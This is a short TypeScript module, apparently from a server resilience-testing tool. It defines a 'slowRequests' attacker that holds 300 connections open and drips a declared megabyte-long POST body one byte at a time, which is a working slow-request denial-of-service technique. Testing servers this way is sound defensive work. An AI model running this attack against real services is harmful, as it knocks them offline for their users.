import type { Attacker } from '../attack.js';
import { Wire } from '../wire.js';

/** Requests whose bodies come a byte a second. */
export const slowRequests: Attacker = (attack) =>
  attack.keepBusy(
    { connections: 300, everyMs: 6_000 },
    () => Wire.dial(attack.url),
    async (wire) => {
      await wire.write('POST /health/live HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n');
      await attack.repeat(wire, 1_000, () => wire.write('x'));
    },
  );
